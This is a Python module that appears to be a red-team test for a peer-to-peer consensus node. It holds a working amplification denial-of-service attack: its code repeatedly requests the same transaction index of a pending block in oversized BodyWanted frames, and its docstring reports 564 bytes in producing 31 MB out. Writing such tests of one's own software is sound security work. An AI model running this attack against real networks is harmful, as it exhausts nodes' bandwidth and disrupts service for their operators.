"""Asks five hundred times in one frame for the same transaction of a block that is being decided (K-A).

564 bytes in made 31 MB out.
"""

from __future__ import annotations

from p2p.base.errors import RemoteProtocolError
from p2p.base.keys import Key
from p2p.base.limits import MAX_PROPOSAL, MAX_TXS_PER_BLOCK
from p2p.base.outcome import Outcome
from p2p.base.types import VERSION
from p2p.consensus.compact import parse
from p2p.gossip.host import Network, NetworkConfig, open_network
from p2p.wire.frames import BodyWanted, pack_frame
from tests.redteam.target import TOPICS, Target, each_tick, network_of, quietly

PER_S = 10.0


async def attack(target: Target) -> None:
    offers: list[tuple[int, bytes]] = [(1, bytes(32))]

    def hear(forwarder: str, data: bytes) -> Outcome:
        del forwarder
        try:
            found = parse(data).signed.proposal
        except RemoteProtocolError:
            return Outcome.IGNORE
        offers[:] = [(found.height, found.block_id)]
        return Outcome.IGNORE

    config = NetworkConfig(
        Key.generate(), network_of(target.genesis), (), (), topics=TOPICS, expected_size=6, min_connections=0
    )
    async with open_network(config, topic_handlers={"proposals": hear}, stream_handlers={}) as network:
        await target.connect(network)
        async for number in each_tick(PER_S):
            await _want(network, target.peers()[number % len(target.addresses)], *offers[0])


async def _want(network: Network, peer: str, height: int, block_id: bytes) -> None:
    stream = await quietly(network.open_stream, peer, "body")
    if stream is not None:
        await quietly(stream.send, pack_frame(BodyWanted(VERSION, height, block_id, (0,) * MAX_TXS_PER_BLOCK)))
        await quietly(lambda: stream.receive(limit=MAX_PROPOSAL), timeout_s=2.0)
        await quietly(stream.reset)
